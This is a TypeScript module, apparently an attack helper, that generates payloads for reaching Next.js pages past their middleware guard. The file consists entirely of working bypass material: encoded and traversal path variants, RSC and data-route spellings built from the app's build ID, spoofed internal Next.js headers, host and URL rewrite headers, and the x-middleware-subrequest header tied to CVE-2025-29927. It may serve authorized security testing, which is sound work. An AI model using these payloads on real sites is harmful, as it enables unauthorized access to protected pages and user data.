/** Attempts to reach a guarded page past its guard. */
import { readFileSync } from "node:fs";

const buildId = () => readFileSync(".next/BUILD_ID", "utf8").trim();

/** @returns other spellings of a path that a router, a proxy or a file server might take for the same page */
export function pathSpellings(path: string): string[] {
  const [first = "", ...rest] = path.slice(1);
  const hex = `%${first.charCodeAt(0).toString(16)}${rest.join("")}`;
  return [
    `${path}/`,
    `/${path}`,
    `/.${path}`,
    `/login/..${path}`,
    `/login/%2e%2e${path}`,
    `/${hex}`,
    `/%25${hex.slice(1)}`,
    path.toUpperCase(),
    `/en${path}`,
    `${path}.rsc`,
    `${path}.json`,
    `${path}.txt`,
    `${path}/x.css`,
    `${path}.segments/_tree.segment.rsc`,
    `${path}.segments/_index.segment.rsc`,
    `/_next/data/${buildId()}${path}.json`,
    `/_next/data/${buildId()}${path}.rsc`,
    `${path}?_rsc=12345`,
    `${path}?nxtPid=1&nxtImissing=1`,
    `${path}?__nextDataReq=1`,
    `${path};x=1`,
    `${path}%00`,
    `${path}%3f`,
    `${path}%23`,
    `${path}\\`,
    `/api/..${path}`,
    `/_next/static/..${path}`,
    `/_next/image${path}`,
    `/(account)${path}`,
  ];
}

/** @returns sets of headers that Next.js sends between its own parts, or that make a proxy rewrite a request */
export function bypassHeaders(path: string): Record<string, string>[] {
  return [
    ...["middleware", "src/middleware", "proxy", "src/proxy"].map(subrequestHeader),
    { "x-middleware-next": "1" },
    { "x-middleware-rewrite": path },
    { "x-middleware-override-headers": "cookie", "x-middleware-request-cookie": "a=b" },
    { "x-nextjs-data": "1" },
    { "x-matched-path": path, "x-invoke-path": path, "x-invoke-status": "200", "x-now-route-matches": "1=1" },
    { RSC: "1" },
    { RSC: "1", "Next-Router-Prefetch": "1" },
    { RSC: "1", "Next-Router-Prefetch": "2" },
    { RSC: "1", "Next-Router-Prefetch": "1", "Next-Router-Segment-Prefetch": "/_tree" },
    { RSC: "1", "Next-Router-State-Tree": encodeURIComponent('["",{},null,"refetch"]') },
    { Purpose: "prefetch", "Sec-Purpose": "prefetch;prerender" },
    { "Next-Action": "00" },
    { "X-Original-URL": "/login", "X-Rewrite-URL": "/login" },
    { "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https", Host: "evil.example" },
    { "X-HTTP-Method-Override": "OPTIONS" },
    { "x-prerender-revalidate": "1", "x-prerender-bypass": "1" },
    { "x-internal-peer": "127.0.0.1", "x-internal-nonce": "x" },
  ];
}

/** @returns the header that made older Next.js versions skip the middleware (CVE-2025-29927) */
export function subrequestHeader(name: string): Record<string, string> {
  return { "x-middleware-subrequest": Array(5).fill(name).join(":") };
}
